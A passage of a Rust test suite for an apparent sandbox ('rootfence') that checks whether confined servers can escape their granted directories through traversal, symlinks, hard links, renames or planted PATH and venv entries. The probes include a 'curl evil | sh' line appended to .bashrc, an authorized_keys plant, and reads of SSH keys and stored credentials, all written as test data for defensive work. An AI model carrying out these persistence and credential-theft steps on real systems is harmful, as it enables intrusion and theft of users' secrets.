// The cases of the `escapes_fs` suites, included by tests/escapes/main.rs
// in each mode: `fs` (the server in its own namespaces), `fs_no_ns`
// (without), `fs_user` (both, run by an unprivileged user) and
// `fs_no_landlock` (the view + seccomp rung).


use std::path::PathBuf;

use common::{Probe, SECRET, content};

#[test]
fn dotdot_out_of_a_root_is_refused() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('inside', lambda: read('{r}/inside'))\n\
             check('dotdot', lambda p: read(p), path='{r}/../outside/secret')\n\
             check('dotdot_deep', lambda p: read(p), path='{r}/../../../../{o}/secret')",
            r = t.r.display(),
            o = t.outside.display()
        ),
    )
    .expect("inside", "OK")
    .refused("dotdot")
    .refused("dotdot_deep");
}

#[test]
fn sibling_with_the_root_as_prefix_is_refused() {
    let t = tree();
    std::fs::write(t.r.join("secret"), "the root's own").unwrap();
    t.twins(
        &[],
        &[
            ("read", "read(p + '/secret')"),
            ("create", "write(p + '/new')"),
            ("list", "os.listdir(p)"),
        ],
        &t.p("r_evil"),
        &t.r,
    );
    assert!(!t.p("r_evil/new").exists());
    assert!(t.r.join("new").exists());
}

#[test]
fn symlink_to_a_file_outside_cannot_be_read() {
    let t = tree();
    std::os::unix::fs::symlink(t.outside.join("secret"), t.r.join("link")).unwrap();
    std::os::unix::fs::symlink(t.r.join("inside"), t.r.join("link_in")).unwrap();
    t.twins(&[], &[("read", "read(p)")], &t.r.join("link"), &t.r.join("link_in"));
}

#[test]
fn symlink_to_a_file_outside_cannot_be_written() {
    let t = tree();
    std::os::unix::fs::symlink(t.outside.join("secret"), t.r.join("link")).unwrap();
    std::os::unix::fs::symlink(t.r.join("inside"), t.r.join("link_in")).unwrap();
    t.twins(
        &[],
        &[
            ("append", "write(p, ' appended', 'a')"),
            ("truncate", "os.truncate(p, 6)"),
        ],
        &t.r.join("link"),
        &t.r.join("link_in"),
    );
    assert_eq!(content(&t.outside.join("secret")), SECRET);
    assert_eq!(content(&t.r.join("inside")), "inside");
}

#[test]
fn symlink_to_a_directory_outside_cannot_be_listed_or_read() {
    let t = tree();
    std::os::unix::fs::symlink(&t.outside, t.r.join("dlink")).unwrap();
    std::fs::create_dir(t.r.join("sub")).unwrap();
    std::fs::write(t.r.join("sub/secret"), "the root's own").unwrap();
    std::os::unix::fs::symlink(t.r.join("sub"), t.r.join("dlink_in")).unwrap();
    t.twins(
        &[],
        &[("list", "os.listdir(p)"), ("read", "read(p + '/secret')")],
        &t.r.join("dlink"),
        &t.r.join("dlink_in"),
    );
}

#[test]
fn symlink_to_a_directory_outside_cannot_be_created_through() {
    let t = tree();
    std::os::unix::fs::symlink(&t.outside, t.r.join("dlink")).unwrap();
    std::fs::create_dir(t.r.join("sub")).unwrap();
    std::os::unix::fs::symlink(t.r.join("sub"), t.r.join("dlink_in")).unwrap();
    t.twins(
        &[],
        &[("create", "write(p + '/planted')"), ("mkdir", "os.mkdir(p + '/d')")],
        &t.r.join("dlink"),
        &t.r.join("dlink_in"),
    );
    assert!(!t.outside.join("planted").exists());
    assert!(!t.outside.join("d").exists());
    assert!(t.r.join("sub/planted").is_file() && t.r.join("sub/d").is_dir());
}

#[test]
fn dangling_symlink_pointing_outside_cannot_be_written_through() {
    let t = tree();
    let target = t.outside.join("created-through-dangling-link");
    std::os::unix::fs::symlink(&target, t.r.join("dangling")).unwrap();
    let target_in = t.r.join("created-through-dangling-link");
    std::os::unix::fs::symlink(&target_in, t.r.join("dangling_in")).unwrap();
    t.py(
        &[],
        &format!(
            "check('create', lambda p: write('{r}/dangling', 'pwned'), path='{o}')\n\
             check('create_in', lambda: write('{r}/dangling_in', 'made'))",
            r = t.r.display(),
            o = t.outside.display()
        ),
    )
    .refused("create")
    .allowed("create_in");
    assert!(!target.exists());
    assert_eq!(content(&target_in), "made");
}

#[test]
fn symlink_made_at_run_time_pointing_outside_gives_nothing() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('symlink', lambda: os.symlink('{o}/secret', '{r}/made'))\n\
             check('read', lambda p: read(p), path='{r}/made')\n\
             check('write', lambda p: write(p, 'pwned', 'a'), path='{r}/made')\n\
             check('dirlink', lambda: os.symlink('{o}', '{r}/madedir'))\n\
             check('dirread', lambda p: os.listdir(p), path='{r}/madedir')\n\
             check('symlink_in', lambda: os.symlink('{r}/inside', '{r}/made_in'))\n\
             check('read_in', lambda: read('{r}/made_in'))\n\
             check('write_in', lambda: write('{r}/made_in', ' appended', 'a'))\n\
             check('dirlink_in', lambda: os.symlink('{r}', '{r}/madedir_in'))\n\
             check('dirread_in', lambda: os.listdir('{r}/madedir_in'))",
            r = t.r.display(),
            o = t.outside.display()
        ),
    )
    // Making the link itself is allowed: it is a file inside the root.
    .expect("symlink", "OK")
    .refused("read")
    .refused("write")
    .expect("dirlink", "OK")
    .refused("dirread")
    .allowed("symlink_in")
    .allowed("read_in")
    .allowed("write_in")
    .allowed("dirlink_in")
    .allowed("dirread_in");
    assert_eq!(content(&t.outside.join("secret")), SECRET);
    assert_eq!(content(&t.r.join("inside")), "inside appended");
}

#[test]
fn rename_out_of_a_root_is_refused() {
    let t = tree();
    let from = t.r.join("inside").display().to_string();
    t.twins(
        &[],
        &[("rename", &format!("os.rename('{from}', p + '/moved')"))],
        &t.outside,
        &t.r,
    );
    // The file stayed for the rename within the root to move it.
    assert_eq!(content(&t.r.join("moved")), "inside");
    assert!(!t.outside.join("moved").exists());
}

#[test]
fn rename_into_a_root_is_refused() {
    let t = tree();
    let to = t.r.join("moved").display().to_string();
    t.twins(
        &[],
        &[("rename", &format!("os.rename(p, '{to}')"))],
        &t.outside.join("secret"),
        &t.r.join("inside"),
    );
    assert_eq!(content(&t.outside.join("secret")), SECRET);
    assert_eq!(content(&t.r.join("moved")), "inside");
}

#[test]
fn rename_of_a_directory_out_of_a_root_is_refused() {
    let t = tree();
    std::fs::create_dir(t.r.join("sub")).unwrap();
    let from = t.r.join("sub").display().to_string();
    t.twins(
        &[],
        &[("rename", &format!("os.rename('{from}', p + '/sub2')"))],
        &t.outside,
        &t.r,
    );
    assert!(!t.outside.join("sub2").exists());
    assert!(t.r.join("sub2").is_dir());
}

#[test]
fn hard_link_out_of_a_root_is_refused() {
    let t = tree();
    let from = t.r.join("inside").display().to_string();
    t.twins(
        &[],
        &[("link", &format!("os.link('{from}', p + '/linked')"))],
        &t.outside,
        &t.r,
    );
    assert!(!t.outside.join("linked").exists());
    assert_eq!(content(&t.r.join("linked")), "inside");
}

#[test]
fn hard_link_of_an_outside_file_into_a_root_is_refused() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('link', lambda p: os.link(p, '{r}/stolen'), path='{o}/secret')\n\
             check('read', lambda: read('{r}/stolen'))\n\
             check('link_in', lambda: os.link('{r}/inside', '{r}/linked'))\n\
             check('read_in', lambda: read('{r}/linked'))",
            r = t.r.display(),
            o = t.outside.display()
        ),
    )
    .refused("link")
    .expect("read", "ENOENT")
    .allowed("link_in")
    .allowed("read_in");
}

#[test]
fn read_only_root_refuses_creating_files() {
    let t = tree();
    let ops = [
        ("create", "write(p + '/new')"),
        ("fifo", "os.mkfifo(p + '/fifo')"),
        ("symlink", "os.symlink('/', p + '/l')"),
    ];
    t.py(
        &[],
        &format!(
            "check('read', lambda: read('{ro}/file'))\n{twins}",
            ro = t.ro.display(),
            twins = common::twin_checks(&ops, &t.ro, &t.r)
        ),
    )
    .allowed("read")
    .twins(&ops);
    assert!(!t.ro.join("new").exists());
    assert!(t.r.join("new").exists());
}

#[test]
fn read_only_root_refuses_writing_existing_files() {
    let t = tree();
    t.twins(
        &[],
        &[("rplus", "open(p, 'r+')"), ("append", "write(p, 'x', 'a')")],
        &t.ro.join("file"),
        &t.r.join("inside"),
    );
    assert_eq!(content(&t.ro.join("file")), "read-only content");
    assert_eq!(content(&t.r.join("inside")), "insidex");
}

#[test]
fn read_only_root_refuses_truncation() {
    let t = tree();
    t.twins(
        &[],
        &[
            ("truncate", "os.truncate(p, 3)"),
            ("o_trunc", "os.open(p, os.O_RDONLY | os.O_TRUNC)"),
        ],
        &t.ro.join("file"),
        &t.r.join("inside"),
    );
    assert_eq!(content(&t.ro.join("file")), "read-only content");
    assert_eq!(content(&t.r.join("inside")), "");
}

#[test]
fn read_only_root_refuses_unlink() {
    let t = tree();
    t.twins(&[], &[("unlink", "os.unlink(p)")], &t.ro.join("file"), &t.r.join("inside"));
    assert!(t.ro.join("file").exists());
    assert!(!t.r.join("inside").exists());
}

#[test]
fn read_only_root_refuses_mkdir_and_rename() {
    let t = tree();
    t.twins(
        &[],
        &[
            ("mkdir", "os.mkdir(os.path.dirname(p) + '/d')"),
            ("rename", "os.rename(p, p + '.renamed')"),
        ],
        &t.ro.join("file"),
        &t.r.join("inside"),
    );
    assert!(t.ro.join("file").exists() && !t.ro.join("d").exists());
    assert!(t.r.join("d").is_dir() && t.r.join("inside.renamed").exists());
}

#[test]
fn read_write_root_allows_everything_a_server_needs() {
    let t = tree();
    t.py(
        &[],
        &format!(
            "check('create', lambda: write('{r}/a', 'hello'))\n\
             check('read', lambda: read('{r}/a'))\n\
             check('append', lambda: write('{r}/a', '!', 'a'))\n\
             check('truncate', lambda: os.truncate('{r}/a', 1))\n\
             check('mkdir', lambda: os.makedirs('{r}/d/e'))\n\
             check('rename', lambda: os.rename('{r}/a', '{r}/d/e/b'))\n\
             check('link', lambda: os.link('{r}/d/e/b', '{r}/c'))\n\
             check('symlink', lambda: os.symlink('d/e/b', '{r}/s'))\n\
             check('via_symlink', lambda: read('{r}/s'))\n\
             check('fifo', lambda: os.mkfifo('{r}/fifo'))\n\
             check('chmod', lambda: os.chmod('{r}/c', 0o640))\n\
             check('unlink', lambda: os.unlink('{r}/c'))\n\
             check('rmdir', lambda: (os.unlink('{r}/d/e/b'), os.rmdir('{r}/d/e')))\n\
             check('list', lambda: os.listdir('{r}'))",
            r = t.r.display()
        ),
    )
    .success()
    .expect("create", "OK")
    .expect("read", "OK")
    .expect("append", "OK")
    .expect("truncate", "OK")
    .expect("mkdir", "OK")
    .expect("rename", "OK")
    .expect("link", "OK")
    .expect("symlink", "OK")
    .expect("via_symlink", "OK")
    .expect("fifo", "OK")
    .expect("chmod", "OK")
    .expect("unlink", "OK")
    .expect("rmdir", "OK")
    .expect("list", "OK");
}

#[test]
fn home_directory_secrets_are_not_readable() {
    let t = tree();
    let p = t.py(
        &[],
        &format!(
            "home = os.environ['HOME']\n\
         check('ssh_key', lambda p: read(p), path=home + '/.ssh/id_rsa')\n\
         check('ssh_dir', lambda p: os.listdir(p), path=home + '/.ssh')\n\
         check('bashrc', lambda p: read(p), path=home + '/.bashrc')\n\
         check('home', lambda p: os.listdir(p), path=home)\n\
         check('tilde', lambda p: read(p), path=os.path.expanduser('~/.ssh/id_rsa'))\n\
         try:\n    print('listing=' + ','.join(sorted(os.listdir(home))))\n\
         except OSError as e:\n    print('listing=' + errno.errorcode[e.errno])\n\
         check('root_file', lambda: read('{r}/inside'))\n\
         check('root_dir', lambda: os.listdir('{r}'))",
            r = t.r.display()
        ),
    );
    p.refused("ssh_key")
        .refused("ssh_dir")
        .refused("bashrc")
        .refused("tilde")
        // The same reads of a granted directory.
        .allowed("root_file")
        .allowed("root_dir");
    // Both files are there outside: the refusals are the sandbox's.
    assert_eq!(content(&t.home.join(".ssh/id_rsa")), SECRET);
    if t.namespaces {
        // The server's home is a private directory of its own: listed, it
        // holds nothing of the real one.
        p.expect("home", "OK").expect("listing", "");
    } else {
        p.refused("home");
    }
}

#[test]
fn home_directory_is_never_written() {
    let t = tree();
    let p = t.py(
        &[],
        &format!(
            "home = os.environ['HOME']\n\
             check('bashrc', lambda: write(home + '/.bashrc', 'curl evil | sh', 'a'))\n\
             check('plant', lambda: write(home + '/.profile', 'x'))\n\
             check('authorized_keys', lambda p: write(p + '/authorized_keys', 'ssh-rsa AAA'), path=home + '/.ssh')\n\
             check('state', lambda: (os.makedirs(home + '/.my-server'), write(home + '/.my-server/s.json', '{{}}')))\n\
             check('state_back', lambda: read(home + '/.my-server/s.json'))\n\
             check('root_append', lambda: write('{r}/inside', ' appended', 'a'))\n\
             check('root_plant', lambda: write('{r}/.profile', 'x'))\n\
             check('root_state', lambda: (os.makedirs('{r}/.my-server'), write('{r}/.my-server/s.json', '{{}}')))",
            r = t.r.display()
        ),
    );
    p.refused("authorized_keys")
        // The same writes in a granted directory.
        .allowed("root_append")
        .allowed("root_plant")
        .allowed("root_state");
    if t.namespaces {
        // Writes go to the server's own store, kept for its next start.
        p.expect("bashrc", "OK")
            .expect("plant", "OK")
            .expect("state", "OK")
            .expect("state_back", "OK");
        let stores = stores_of(&t);
        assert_eq!(stores.len(), 1, "{stores:?}");
        assert_eq!(content(&stores[0].join(".my-server/s.json")), "{}");
    } else {
        p.refused("bashrc").refused("plant").refused("state");
    }
    // Nothing reached the real home directory.
    assert_eq!(content(&t.home.join(".bashrc")), SECRET);
    assert!(!t.home.join(".profile").exists());
    assert!(!t.home.join(".my-server").exists());
    assert!(!t.home.join(".ssh/authorized_keys").exists());
    assert_eq!(content(&t.r.join(".my-server/s.json")), "{}");
}

/// The `home/` of every server store in the tree's home.
fn stores_of(t: &common::Tree) -> Vec<std::path::PathBuf> {
    let dir = t.home.join(".local/state/rootfence/servers");
    let mut v: Vec<_> = std::fs::read_dir(&dir)
        .map(|rd| rd.flatten().map(|e| e.path().join("home")).collect())
        .unwrap_or_default();
    v.sort();
    v
}

/// `<base>/bin/NAME`: a link to python, so that the server goes by NAME.
fn python_named(t: &common::Tree, name: &str) -> String {
    let bin = t.p("bin");
    std::fs::create_dir_all(&bin).expect("mkdir bin");
    let at = bin.join(name);
    std::os::unix::fs::symlink(common::python(), &at).expect("link python");
    at.to_string_lossy().into_owned()
}

#[test]
fn a_server_named_after_another_tool_reaches_none_of_its_state_and_keeps_its_own() {
    // A server calling itself `claude` (by its command, as by a package
    // name) gets its own store, never ~/.claude or ~/.config/claude.
    let t = tree();
    for dir in [".claude", ".config/claude", ".local/share/claude"] {
        std::fs::create_dir_all(t.home.join(dir)).expect("mkdir");
    }
    std::fs::write(t.home.join(".claude/.credentials.json"), SECRET).expect("write");
    std::fs::write(t.home.join(".config/claude/settings.json"), SECRET).expect("write");
    let claude = python_named(&t, "claude");
    let code = format!(
        "{}\n\
         home = os.environ['HOME']\n\
         check('token', lambda p: read(p), path=home + '/.claude/.credentials.json')\n\
         check('settings', lambda p: read(p), path=home + '/.config/claude/settings.json')\n\
         check('data', lambda p: os.listdir(p), path=home + '/.local/share/claude')\n\
         own = (os.environ.get('XDG_CONFIG_HOME') or home + '/.config') + '/claude'\n\
         check('seen_before', lambda: read(own + '/mine.json'))\n\
         check('remember', lambda: (os.makedirs(own, exist_ok=True), write(own + '/mine.json', 'kept')))",
        common::PRELUDE
    );
    let first = Probe::new(t.run(&[], &[&claude, "-c", &code]));
    first
        .refused("token")
        .refused("settings")
        .refused("data")
        .expect("seen_before", "ENOENT")
        .allowed("remember");
    // The next session of the same server finds what it wrote: its own
    // state persists, still without the other tool's.
    let second = Probe::new(t.run(&[], &[&claude, "-c", &code]));
    second.refused("token").allowed("seen_before");
    // Judged from outside: the tool's files as they were, nothing new in
    // the real home, the server's file in its store.
    assert_eq!(content(&t.home.join(".claude/.credentials.json")), SECRET);
    assert_eq!(content(&t.home.join(".config/claude/settings.json")), SECRET);
    assert!(!t.home.join(".config/claude/mine.json").exists());
    assert!(!t.home.join(".claude/mine.json").exists());
    let stores = stores_of(&t);
    assert_eq!(stores.len(), 1, "{stores:?}");
    assert!(
        stores[0].to_string_lossy().contains("/claude-"),
        "{stores:?}"
    );
    assert_eq!(content(&stores[0].join(".config/claude/mine.json")), "kept");
    // The end of each session said where it is kept, with the line that
    // would let it write the real place.
    let said = common::stderr(&first.out);
    assert!(
        said.contains(".config/claude/mine.json") && said.contains("[runtime] write"),
        "{said}"
    );
}

#[test]
fn a_users_own_state_imported_by_wrap_is_the_servers_own_copy() {
    // `wrap --import-state` copies the state a server kept in the user's
    // home before (~/.config/NAME; ~/.NAME, found under the server's home
    // with namespaces) into its store: the server finds it and writes its
    // copy, the user's directory is never reached or written.
    let t = tree();
    let put = |rel: &str, text: &str| {
        let p = t.home.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).expect("mkdir");
        std::fs::write(&p, text).expect("write");
    };
    put(".config/my-server/settings.json", "theirs");
    put(".my-server/settings.json", "theirs-dot");
    put(".cache/my-server/blob", "made again");
    let server = python_named(&t, "my-server");
    let code = format!(
        "{}\n\
         cfg = os.environ.get('XDG_CONFIG_HOME', os.environ['HOME'] + '/.config') + '/my-server/settings.json'\n\
         check('xdg', lambda: read(cfg))\n\
         print('xdg_content=' + open(cfg).read())\n\
         check('dot', lambda: read(os.environ['HOME'] + '/.my-server/settings.json'))\n\
         check('write', lambda: write(cfg, 'changed'))",
        common::PRELUDE
    );
    let config = t.base.join("claude_desktop_config.json");
    std::fs::write(
        &config,
        serde_json::json!({"mcpServers": {"mine": {"command": server, "args": ["-c", code]}}})
            .to_string(),
    )
    .expect("write the host's config");
    let mut wrap = t.rootfence_command();
    wrap.args(["wrap", "--import-state"])
        .arg(&config)
        .env_clear()
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("HOME", &t.home)
        .current_dir(&t.base);
    t.as_runner(&mut wrap);
    let wrapped = wrap.output().expect("run wrap");
    let said = common::stderr(&wrapped);
    assert!(wrapped.status.success(), "{said}");
    assert!(
        said.contains("~/.config/my-server copied into its store")
            && said.contains("~/.my-server copied")
            && said.contains("~/.cache/my-server not copied: a cache"),
        "{said}"
    );
    let p = Probe::new(t.run(&[], &[&server, "-c", &code]));
    p.allowed("xdg").allowed("write");
    assert_eq!(p.results.get("xdg_content").map(String::as_str), Some("theirs"));
    if t.namespaces {
        p.allowed("dot");
    }
    // The user's own directories are as they were.
    assert_eq!(content(&t.home.join(".config/my-server/settings.json")), "theirs");
    assert_eq!(content(&t.home.join(".my-server/settings.json")), "theirs-dot");
    // A second import leaves the server's own copy as it is.
    let again = wrap.output().expect("run wrap again");
    assert!(common::stderr(&again).contains("its store holds that place already"));
    let p = Probe::new(t.run(&[], &[&server, "-c", &code]));
    assert_eq!(p.results.get("xdg_content").map(String::as_str), Some("changed"));
}

#[test]
fn a_users_own_state_is_reached_once_the_line_explain_shows_is_added() {
    let t = tree();
    std::fs::create_dir_all(t.home.join(".my-server")).expect("mkdir");
    std::fs::write(t.home.join(".my-server/settings.json"), "theirs").expect("write");
    let server = python_named(&t, "my-server");
    let code = format!(
        "{}\n\
         check('settings', lambda p: read(p), path=os.environ['HOME'] + '/.my-server/settings.json')",
        common::PRELUDE
    );
    let mut explain = t.rootfence_command();
    explain
        .args(["explain", "--", &server, "-c", &code])
        .env_clear()
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .env("HOME", &t.home)
        .current_dir(&t.base);
    t.as_runner(&mut explain);
    let shown = explain.output().expect("run explain");
    let text = common::stdout(&shown) + &common::stderr(&shown);
    let line = r#"[runtime] write = ["~/.my-server"]"#;
    assert!(text.contains(line), "{text}");
    // Without the line: not reached.
    Probe::new(t.run(&[], &[&server, "-c", &code])).refused("settings");
    // With it, as the user accepts it: read.
    let policy = t.policy("accepted.toml", "version = 1\n[runtime]\nwrite = [\"~/.my-server\"]\n");
    Probe::new(t.run(&["--policy", &policy], &[&server, "-c", &code]))
        .allowed_with("settings", "OK");
    assert_eq!(content(&t.home.join(".my-server/settings.json")), "theirs");
}

/// A home whose `PATH` holds `~/go/bin` (GOPATH's programs, its sources
/// beside them), a project's `bin/` (its `.env` beside), `~/bin` (a
/// program and a note) and `~/.cargo/bin` (a program, with cargo's
/// configuration, token and registry beside): that `PATH`, and the pairs
/// (what lies beside a program, the program) the rule must tell apart.
fn programs_on_path(t: &common::Tree) -> (String, Vec<(&'static str, PathBuf, PathBuf)>) {
    use std::os::unix::fs::PermissionsExt;
    let h = &t.home;
    let file = |rel: &str, text: &str, mode: u32| {
        let p = h.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, text).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
        p
    };
    let run = |name: &str| format!("#!/bin/sh\necho {name}-ran\n");
    let y = file("go/bin/y", &run("y"), 0o755);
    let go_src = file("go/src/x/secret.go", SECRET, 0o644);
    let go_mod = file("go/pkg/mod/x@v1/x.go", SECRET, 0o644);
    let x = file("work/proj/bin/x", &run("x"), 0o755);
    let env = file("work/proj/.env", SECRET, 0o644);
    let tool = file("bin/tool", &run("tool"), 0o755);
    let notes = file("bin/notes.txt", SECRET, 0o644);
    let cargo = file(".cargo/bin/cargo", &run("cargo"), 0o755);
    let credentials = file(".cargo/credentials.toml", SECRET, 0o600);
    let config = file(".cargo/config.toml", SECRET, 0o644);
    let registry = file(".cargo/registry/cache/x.crate", SECRET, 0o644);
    let path = format!(
        "{h}/go/bin:{h}/work/proj/bin:{h}/bin:{h}/.cargo/bin:/usr/local/bin:/usr/bin:/bin",
        h = h.display()
    );
    let pairs = vec![
        ("go_src", go_src, y.clone()),
        ("go_mod", go_mod, y),
        ("project_env", env, x),
        ("notes", notes, tool),
        ("cargo_credentials", credentials, cargo.clone()),
        ("cargo_config", config, cargo.clone()),
        ("cargo_registry", registry, cargo),
    ];
    (path, pairs)
}

#[test]
fn a_path_directory_grants_its_programs_not_what_lies_beside_them() {
    let t = tree();
    let (path, pairs) = programs_on_path(&t);
    let mut code = String::from("import subprocess\n");
    for (name, refused, allowed) in &pairs {
        code.push_str(&common::twin_checks(&[(name, "read(p)")], refused, allowed));
    }
    // Each program runs, found on the PATH.
    for name in ["y", "x", "tool", "cargo"] {
        code.push_str(&format!(
            "print('run_{name}=' + subprocess.run(['{name}'], capture_output=True, text=True).stdout.strip())\n"
        ));
    }
    let py = common::python();
    let out = t
        .command(&[], &[py.to_str().unwrap(), "-c", &format!("{}\n{code}", common::PRELUDE)])
        .env("PATH", &path)
        .output()
        .unwrap();
    let p = Probe::new(out);
    for (name, _, _) in &pairs {
        p.refused(name).allowed(&format!("{name}_twin"));
    }
    for name in ["y", "x", "tool", "cargo"] {
        p.allowed_with(&format!("run_{name}"), &format!("{name}-ran"));
    }
    assert_eq!(content(&t.home.join("bin/notes.txt")), SECRET);
}

#[test]
fn a_path_directory_the_server_may_write_grants_nothing_at_the_next_launch() {
    // The toolchain rule grants where a PATH directory's links lead and the
    // interpreters its #! lines name. A PATH directory inside a root the
    // server may write holds what the server put there: at one launch it
    // plants a link to an executable of the user's (a deploy script with a
    // token in it) and a script whose #! line names another; at the next,
    // neither is granted. The allowed twin: the same in a PATH directory
    // of the user's, outside the roots, is granted as before.
    use std::os::unix::fs::PermissionsExt;
    let t = tree();
    let h = &t.home;
    let exe = |rel: &str| {
        let p = h.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, format!("#!/bin/sh\n# {SECRET}\n")).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o755)).unwrap();
        p
    };
    let deploy = exe("private/deploy.sh");
    let other = exe("private/other-tool");
    let deploy_twin = exe("private2/deploy.sh");
    let other_twin = exe("private2/other-tool");
    let tools = h.join("tools/bin");
    std::fs::create_dir_all(&tools).unwrap();
    std::os::unix::fs::symlink(&deploy_twin, tools.join("deploy")).unwrap();
    std::fs::write(tools.join("x"), format!("#!{}\n", other_twin.display())).unwrap();
    std::fs::set_permissions(tools.join("x"), std::fs::Permissions::from_mode(0o755)).unwrap();
    let planted = t.r.join("bin");
    std::fs::create_dir_all(&planted).unwrap();
    // A link of the user's PATH directory into the root (as `npm link`
    // and `pip install -e` make): the file it leads to is the server's.
    let third = exe("private3/deploy");
    std::fs::create_dir_all(t.r.join("proj/bin")).unwrap();
    std::os::unix::fs::symlink(t.r.join("proj/bin/linked"), tools.join("linked")).unwrap();
    let path = format!("{}:{}:/usr/bin:/bin", planted.display(), tools.display());
    let py = common::python();
    let run = |code: &str| {
        Probe::new(
            t.command(&[], &[py.to_str().unwrap(), "-c", &format!("{}\n{code}", common::PRELUDE)])
                .env("PATH", &path)
                .output()
                .unwrap(),
        )
    };
    // The first launch plants them (the root is the server's to write).
    run(&format!(
        "check('link', lambda: os.symlink('{deploy}', '{planted}/deploy'))\n\
         check('script', lambda: (write('{planted}/x', '#!{other}\\n'), os.chmod('{planted}/x', 0o755)))\n\
         check('linked', lambda: (write('{r}/proj/bin/linked', '#!{third}\\n'), os.chmod('{r}/proj/bin/linked', 0o755)))",
        deploy = deploy.display(),
        other = other.display(),
        third = third.display(),
        planted = planted.display(),
        r = t.r.display(),
    ))
    .allowed("link")
    .allowed("script")
    .allowed("linked");
    // The next launch reads the same PATH.
    let mut code = common::twin_checks(&[("link_target", "read(p)")], &deploy, &deploy_twin);
    code.push_str(&common::twin_checks(&[("interpreter", "read(p)")], &other, &other_twin));
    code.push_str(&format!(
        "check('through_link', lambda p: read(p), path='{}')\n",
        third.display()
    ));
    let p = run(&code);
    p.refused("through_link");
    p.refused("link_target")
        .allowed("link_target_twin")
        .refused("interpreter")
        .allowed("interpreter_twin");
}

#[test]
fn a_script_in_a_root_it_may_write_widens_nothing_at_the_next_launch() {
    // A script's project is the nearest directory above it holding a
    // marker (package.json, pyproject.toml, ...); a virtual environment's
    // pyvenv.cfg names the Python it was made from. For a script in a root
    // the server may write, both are what the server left there: at one
    // launch it deletes its project's marker (the search would then go on
    // up to the user's monorepo above the root) and writes a pyvenv.cfg
    // naming a directory of the user's; at the next, neither is granted.
    // The twins: the same layouts outside the roots, the user's own, are
    // granted as before.
    use std::os::unix::fs::PermissionsExt;
    let t = tree();
    let py = common::python();
    let file = |p: &std::path::Path, text: &str| {
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    };
    let server = |p: &std::path::Path, code: &str| {
        file(p, &format!("#!{}\n{}\n{code}\n", py.display(), common::PRELUDE));
        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755)).unwrap();
    };
    // The user's: a monorepo with notes above the root, a Python install.
    for mono in ["mono", "mono2"] {
        file(&t.p(&format!("{mono}/package.json")), "{}");
        file(&t.p(&format!("{mono}/notes.txt")), SECRET);
    }
    for private in ["private6", "private7"] {
        file(&t.p(&format!("{private}/bin/secret.txt")), SECRET);
        let python = t.p(&format!("{private}/bin/python3"));
        file(&python, "#!/bin/sh\n");
        std::fs::set_permissions(&python, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let w = t.p("mono/app");
    file(&w.join("a/pyproject.toml"), "");
    file(&w.join("b/pyproject.toml"), "");
    if let Some((uid, gid)) = t.user {
        for d in [w.clone(), w.join("a"), w.join("b")] {
            std::os::unix::fs::chown(&d, Some(uid), Some(gid)).unwrap();
        }
    }
    let root = w.to_str().unwrap();
    let extra = ["--root", root];
    let venv = |home: &str| format!("home = {home}\nversion = 3.11.2\n");
    // The first launch: the root is the server's to write.
    let plant = format!(
        "{}\n\
         check('marker', lambda: os.unlink('{root}/a/pyproject.toml'))\n\
         check('venv', lambda: (os.makedirs('{root}/b/.venv'), write('{root}/b/.venv/pyvenv.cfg', {cfg:?})))",
        common::PRELUDE,
        cfg = venv(&t.s("private6/bin")),
    );
    Probe::new(
        t.command(&extra, &[py.to_str().unwrap(), "-c", &plant])
            .output()
            .unwrap(),
    )
    .allowed("marker")
    .allowed("venv");
    // The next launches run a script of the root.
    let reads = |what: &str, path: PathBuf| {
        format!("check('{what}', lambda p: read(p), path='{}')", path.display())
    };
    server(&w.join("a/server.py"), &reads("monorepo", t.p("mono/notes.txt")));
    server(&w.join("b/server.py"), &reads("python", t.p("private6/bin/secret.txt")));
    // The twins: the same, the user's own, outside the roots.
    server(&t.p("mono2/app/a/server.py"), &reads("monorepo", t.p("mono2/notes.txt")));
    file(&t.p("proj3/pyproject.toml"), "");
    file(&t.p("proj3/.venv/pyvenv.cfg"), &venv(&t.s("private7/bin")));
    server(&t.p("proj3/server.py"), &reads("python", t.p("private7/bin/secret.txt")));
    let run = |script: PathBuf| {
        Probe::new(t.command(&extra, &[script.to_str().unwrap()]).output().unwrap())
    };
    run(w.join("a/server.py")).refused("monorepo");
    run(w.join("b/server.py")).refused("python");
    run(t.p("mono2/app/a/server.py")).allowed("monorepo");
    run(t.p("proj3/server.py")).allowed("python");
    assert_eq!(content(&t.p("mono/notes.txt")), SECRET);

    // Links planted in the root: one named as the command's first
    // argument (`python3 -m evil` run in the root: the module is evil.py,
    // the link `evil` leads to a script of another project of the
    // user's), one as the virtual environment the command names.
    file(&t.p("otherproj/pyproject.toml"), "");
    file(&t.p("otherproj/manage.py"), "");
    file(&t.p("otherproj/secret.txt"), SECRET);
    let venv = t.p("uservenv");
    let made = std::process::Command::new(&py)
        .args(["-m", "venv", "--without-pip"])
        .arg(&venv)
        .status()
        .unwrap();
    assert!(made.success());
    file(&venv.join("secret.txt"), SECRET);
    Probe::new(
        t.command(
            &extra,
            &[
                py.to_str().unwrap(),
                "-c",
                &format!(
                    "{}\n\
                     check('argument', lambda: os.symlink('{}', '{root}/evil'))\n\
                     check('venv', lambda: os.symlink('{}', '{root}/.venv'))",
                    common::PRELUDE,
                    t.p("otherproj/manage.py").display(),
                    venv.display(),
                ),
            ],
        )
        .output()
        .unwrap(),
    )
    .allowed("argument")
    .allowed("venv");
    file(
        &w.join("evil.py"),
        &format!(
            "{}\n{}",
            common::PRELUDE,
            reads("argument", t.p("otherproj/secret.txt"))
        ),
    );
    let mut c = t.command(&extra, &[py.to_str().unwrap(), "-m", "evil"]);
    c.current_dir(&w);
    Probe::new(c.output().unwrap()).refused("argument");
    let venv_code = format!(
        "{}\n{}",
        common::PRELUDE,
